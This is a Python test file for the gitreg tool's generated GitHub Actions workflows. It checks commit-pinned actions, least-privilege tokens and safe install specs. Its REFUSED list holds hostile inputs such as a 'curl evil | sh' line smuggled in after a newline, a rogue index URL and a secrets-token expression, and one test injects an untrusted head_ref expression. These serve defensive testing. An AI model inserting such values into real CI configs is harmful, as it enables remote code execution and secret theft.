"""The CI workflows: they install the gitreg the registry pins (never the package index's `gitreg`),
use actions pinned by commit, give write access only to a job that runs no installed code, and pass
actionlint (with shellcheck on every `run:` script)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from importlib import metadata
from pathlib import Path

import pytest
import yaml

from gitreg import Registry
from gitreg.domain.config import Config
from gitreg.services import ci
from tests.conftest import Invoker, git, snapshot

REPOSITORY = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
# Confirmed against the actions' own repositories: the tag's commit, not a moving branch or tag.
PINNED = {
    "actions/checkout": ("3d3c42e5aac5ba805825da76410c181273ba90b1", "v7.0.1"),
    "actions/setup-python": ("5fda3b95a4ea91299a34e894583c3862153e4b97", "v7.0.0"),
    "actions/upload-pages-artifact": ("56afc609e74202658d3ffba0e8f6dda462b719fa", "v3.0.1"),
    "actions/deploy-pages": ("d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e", "v4.0.5"),
}
# The one action a job with a write permission may run: GitHub's Pages deployment, with a token that can
# write Pages and nothing else (the report job before it, which runs gitreg, only reads).
DEPLOY = ({"pages": "write", "id-token": "write"}, "actions/deploy-pages@")
USES = re.compile(r"^\s*(?:-\s+)?uses:\s*(.*)$", re.MULTILINE)
SPEC = "gitreg-dvc @ git+https://github.com/acme/gitreg@0123456789abcdef0123456789abcdef01234567"


def tool(name: str) -> str:
    found = shutil.which(name, path=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
    assert found, f"{name} is missing: install the test extras (pip install -e '.[test]')"
    return found


def actionlint(*paths: Path) -> subprocess.CompletedProcess:
    return subprocess.run([tool("actionlint"), "-no-color", "-shellcheck", tool("shellcheck"), *map(str, paths)],
                          capture_output=True, text=True)


def workflows(root: Path) -> dict[Path, str]:
    return {path: path.read_text() for path in sorted((root / ".github" / "workflows").glob("*.yml"))}


def every_workflow(registry) -> dict[Path, str]:
    return {**workflows(registry.root), **workflows(REPOSITORY)}


def steps(text: str) -> list[tuple[str, dict, dict]]:
    jobs = yaml.safe_load(text)["jobs"]
    return [(name, job, step) for name, job in jobs.items() for step in job.get("steps", [])]


def test_actionlint_and_shellcheck_find_nothing_in_the_generated_and_the_repository_workflows(registry):
    found = every_workflow(registry)
    assert len(found) == 5, sorted(found)
    result = actionlint(*found)
    assert result.returncode == 0 and not result.stdout, result.stdout + result.stderr


def test_actionlint_is_not_a_no_op_it_flags_an_injection_we_avoid(registry, tmp_path):
    workflow = (registry.root / ".github/workflows/gitreg-promotion.yml").read_text()
    injected = workflow.replace('"origin/$BASE_REF"', '"origin/${{ github.head_ref }}"')
    assert injected != workflow
    (tmp_path / "bad.yml").write_text(injected)
    result = actionlint(tmp_path / "bad.yml")
    assert result.returncode == 1 and "github.head_ref" in result.stdout and "untrusted" in result.stdout


def test_no_workflow_installs_the_package_index_gitreg(registry):
    for path, text in every_workflow(registry).items():
        assert not re.search(r"pip3? install[^\n]*(?<![\w-])gitreg(?![\w-])", text), path
        installs = [step["run"] for _, _, step in steps(text) if "pip" in step.get("run", "")]
        assert set(installs) <= {'python -m pip install "$GITREG_INSTALL"'}, (path, installs)


def test_the_install_line_is_ci_install_in_every_registry_workflow(registry):
    for root in (registry.root, REPOSITORY):
        spec = Config.parse(git(root, "show", "HEAD:.gitreg.yaml")).ci_install
        assert spec and spec.startswith(ci.DISTRIBUTION), root
        files = {f"{ci.WORKFLOW_DIR}/{name}": (root / ci.WORKFLOW_DIR / name).read_bytes() for name in ci.WORKFLOWS}
        assert ci.disagreements(spec, files) == [], root
        for name in ci.WORKFLOWS:
            envs = [step["env"]["GITREG_INSTALL"] for _, _, step in steps(files[f"{ci.WORKFLOW_DIR}/{name}"].decode())
                    if "GITREG_INSTALL" in step.get("env", {})]
            assert envs and set(envs) == {spec}, (root, name)


def test_a_workflow_that_disagrees_with_ci_install_is_named():
    files = ci.workflow_files("gitreg-dvc==0.1.0")
    promotion, verify = sorted(files)
    files[verify] = files[verify].replace(b'"gitreg-dvc==0.1.0"', b'"gitreg-dvc==0.0.9"')
    files[promotion] = None
    problems = ci.disagreements("gitreg-dvc==0.1.0", files)
    assert len(problems) == 2 and "missing" in problems[0] and "gitreg-dvc==0.0.9" in problems[1]
    assert "no ci.install" in ci.disagreements(None, files)[0]


def test_every_action_is_pinned_by_commit_with_its_version_beside_it(registry):
    for path, text in every_workflow(registry).items():
        uses = USES.findall(text)
        assert uses, path
        for use in uses:
            match = re.fullmatch(r"([\w.-]+/[\w.-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)", use.strip())
            assert match, f"{path}: {use!r} is not owner/action@<commit> # vX.Y.Z"
            assert PINNED[match[1]] == (match[2], match[3]), (path, use)


def test_only_a_job_that_runs_no_installed_code_may_write(registry):
    for path, text in every_workflow(registry).items():
        data = yaml.safe_load(text)
        assert data["permissions"] == {}, f"{path}: the default token must be empty at the top"
        for name, job in data["jobs"].items():
            permissions = job.get("permissions")
            assert isinstance(permissions, dict), f"{path}: job {name} states its permissions"
            if "write" in permissions.values():
                runs = " ".join(step.get("run", "") for step in job["steps"])
                deploys = permissions == DEPLOY[0] and all(step.get("uses", "").startswith(DEPLOY[1])
                                                           for step in job["steps"])
                assert deploys or not any("uses" in step for step in job["steps"]), (path, name)
                assert "pip" not in runs and "gitreg " not in runs, (path, name)
        for _, _, step in steps(text):
            assert "${{" not in step.get("run", ""), f"{path}: pass expressions through env:, not into scripts"
            if "actions/checkout" in step.get("uses", ""):
                assert step["with"]["persist-credentials"] is False, path


def test_init_pins_the_running_gitreg_and_running_it_again_changes_nothing(registry):
    version = metadata.version(ci.DISTRIBUTION)
    assert registry.config.ci_install == f"gitreg-dvc=={version}"
    before = snapshot(registry.root)
    assert Registry.init(registry.root)[1] is False
    assert Registry.init(registry.root, ci_install=f"gitreg-dvc=={version}")[1] is False
    assert snapshot(registry.root) == before


def test_a_new_registry_takes_the_pin_it_is_given(tmp_path, clock):
    registry, changed = Registry.init(tmp_path / "fresh", ci_install=SPEC)
    assert changed and registry.config.ci_install == SPEC
    assert git(registry.root, "log", "--format=%s") == "Initialize gitreg registry\n"
    assert all(ci.installed_by((registry.root / path).read_bytes()) == [SPEC] for path in ci.workflow_files(SPEC))


def test_ci_install_repins_config_and_both_workflows_in_one_commit(registry, run, clock):
    root = registry.root
    config_before = (root / ".gitreg.yaml").read_text()
    clock.tick()
    run("init", "--ci-install", SPEC)
    assert git(root, "log", "--format=%s").splitlines() == [f"Pin the CI workflows to {SPEC}",
                                                             "Initialize gitreg registry"]
    changed = git(root, "show", "--name-only", "--format=", "HEAD").split()
    assert changed == [".github/workflows/gitreg-promotion.yml", ".github/workflows/gitreg-verify.yml",
                       ".gitreg.yaml"]
    assert git(root, "status", "--porcelain") == ""
    assert registry.config.ci_install == SPEC
    config_after = (root / ".gitreg.yaml").read_text()
    differing = [(a, b) for a, b in zip(config_before.splitlines(), config_after.splitlines()) if a != b]
    assert differing == [('  install: "gitreg-dvc==%s"' % metadata.version(ci.DISTRIBUTION), f'  install: "{SPEC}"')]
    for name in ci.WORKFLOWS:
        assert ci.installed_by((root / ci.WORKFLOW_DIR / name).read_bytes()) == [SPEC]
    before = snapshot(root)
    assert "Already initialized" in run("init", "--ci-install", SPEC).output
    assert snapshot(root) == before
    (root / ".github/workflows/gitreg-verify.yml").unlink()
    run("init")
    assert ci.installed_by((root / ".github/workflows/gitreg-verify.yml").read_bytes()) == [SPEC]
    assert snapshot(root) == before, "a deleted workflow comes back with the registry's pin"


REFUSED = ["gitreg", "GitReg==0.0.1", "gitreg_ ", "gitreg==0.0.1@x", "-r requirements.txt",
           "--index-url https://evil/simple gitreg-dvc", "gitreg-dvc==0.1.0\nrun: curl evil | sh",
           "${{ secrets.PYPI_TOKEN }}", " ", "x" * 1001]


def test_ci_install_refuses_what_is_not_one_safe_requirement(registry, run, tmp_path):
    before = snapshot(registry.root)
    for spec in REFUSED:
        result = run("init", "--ci-install", spec, expect=4)
        assert result.output.startswith("error: --ci-install") and result.output.count("\n") == 1, spec
        run("init", str(tmp_path / "new"), "--ci-install", spec, expect=4)
        assert not (tmp_path / "new").exists(), spec
    assert snapshot(registry.root) == before


def test_ci_install_refuses_to_commit_or_lose_an_uncommitted_edit_of_a_workflow(registry, run):
    workflow = registry.root / ".github/workflows/gitreg-verify.yml"
    workflow.write_text(workflow.read_text() + "# my local change\n")
    before = snapshot(registry.root)
    result = run("init", "--ci-install", SPEC, expect=6)
    assert "gitreg-verify.yml has uncommitted changes" in result.output
    assert snapshot(registry.root) == before


def test_a_registry_from_an_older_gitreg_is_repinned_and_its_workflows_replaced(registry, run):
    root = registry.root
    config = root / ".gitreg.yaml"
    config.write_text(config.read_text().split("# What the workflows")[0])
    for name in ci.WORKFLOWS:
        (root / ci.WORKFLOW_DIR / name).write_text("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n"
                                                   "    steps:\n      - uses: actions/checkout@v4\n"
                                                   "      - run: pip install gitreg\n")
    git(root, "commit", "-qam", "Registry as an older gitreg left it")
    assert Registry(root).config.ci_install is None
    run("init", "--ci-install", "gitreg-dvc==0.1.0")
    assert Registry(root).config.ci_install == "gitreg-dvc==0.1.0"
    assert actionlint(*workflows(root)).returncode == 0
    assert "pip install gitreg" not in "".join(workflows(root).values())


@pytest.mark.parametrize("layout", [
    "stages: [dev]\n",
    "stages: [dev]",
    "stages: [dev]\nci: {install: gitreg-dvc==0.0.1}\n",
    "stages: [dev]\nci:  # pinned\n  install: gitreg-dvc==0.0.1\nmetrics: {loss: lower}\n",
    "stages: [dev]\nci:\n\n  install: 'gitreg-dvc==0.0.1'\n# end\n",
])
def test_with_pin_sets_ci_install_in_any_common_layout_and_keeps_the_rest(layout):
    pinned = ci.with_pin(layout, SPEC)
    parsed, original = Config.parse(pinned), Config.parse(layout)
    assert parsed.ci_install == SPEC
    assert (parsed.stages, parsed.metric_directions) == (original.stages, original.metric_directions)
    assert all(line in pinned for line in layout.splitlines() if line.startswith("#") or "pinned" in line)


def test_the_default_pin_is_this_distribution_exactly():
    assert ci.requirement_for("1.2.3", None) == "gitreg-dvc==1.2.3"
    editable = '{"url": "file:///src/gitreg", "dir_info": {"editable": true}}'
    assert ci.requirement_for("1.2.3", editable) == "gitreg-dvc==1.2.3"
    from_git = ('{"url": "https://github.com/acme/gitreg", "vcs_info": {"vcs": "git", '
                '"commit_id": "0123456789abcdef0123456789abcdef01234567", "requested_revision": "main"}}')
    assert ci.requirement_for("1.2.3", from_git) == SPEC
    assert ci.default_requirement() == f"gitreg-dvc=={metadata.version('gitreg-dvc')}"
    scripts = {e.name: e.value for e in metadata.distribution("gitreg-dvc").entry_points if e.group == "console_scripts"}
    assert scripts == {"gitreg": "gitreg.cli:main"}


def test_gitreg_version_names_the_command_and_the_installed_release(tmp_path):
    assert Invoker(tmp_path)("--version").output == f"gitreg, version {metadata.version('gitreg-dvc')}\n"


def _run_step(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    path = {"PATH": f"{BIN}{os.pathsep}{env.pop('PATH', os.environ['PATH'])}"}
    return subprocess.run(["bash", "-e", "-c", script], cwd=cwd, env={**os.environ, **env, **path},
                          capture_output=True, text=True)


def test_the_check_step_fails_the_job_with_the_summary_and_the_comment_step_posts_it(registry, artifact, tmp_path):
    """The promotion workflow's two scripts run as a runner would run them, on a promotion that fails."""
    root = registry.root
    registry.register("m", artifact, metrics={"accuracy": 0.9})
    registry.promote("m", "0.1.0", "production")
    git(root, "update-ref", "refs/remotes/origin/stage/production", "stage/production")
    git(root, "checkout", "-q", "-b", "sneaky", "stage/production")
    card = root / "models/m/card.yaml"
    card.write_text(card.read_text().replace("accuracy: 0.9", "accuracy: 0.99"))
    git(root, "commit", "-qam", "Better numbers")
    check, comment = (step for _, _, step in steps((root / ".github/workflows/gitreg-promotion.yml").read_text())
                      if step.get("id") == "check" or "gh pr comment" in step.get("run", ""))
    output, summary = tmp_path / "output", tmp_path / "summary"
    result = _run_step(check["run"], root, {"BASE_REF": "stage/production", "GITHUB_OUTPUT": str(output),
                                            "GITHUB_STEP_SUMMARY": str(summary)})
    markdown = (root / "gitreg-summary.md").read_text()
    assert result.returncode == 13 and "FAIL" in markdown.upper(), result.stderr
    assert summary.read_text() == markdown
    head, *body, tail = output.read_text().splitlines()
    assert re.fullmatch(r"summary<<gitreg-summary-[0-9a-f]{32}", head) and tail == head.split("<<")[1]
    assert "\n".join(body) + "\n" == markdown
    gh = tmp_path / "bin" / "gh"  # stands in for GitHub's CLI: records what would be posted
    gh.parent.mkdir()
    gh.write_text(f'#!/bin/sh\necho "$@" > {tmp_path}/gh-args\ncp "$5" {tmp_path}/posted\n')
    gh.chmod(0o755)
    posted = _run_step(comment["run"], tmp_path, {"PR_NUMBER": "7", "SUMMARY": "\n".join(body),
                                                  "PATH": f"{gh.parent}{os.pathsep}{os.environ['PATH']}"})
    assert posted.returncode == 0, posted.stderr
    assert (tmp_path / "gh-args").read_text() == "pr comment 7 --body-file gitreg-summary.md\n"
    assert (tmp_path / "posted").read_text() == markdown
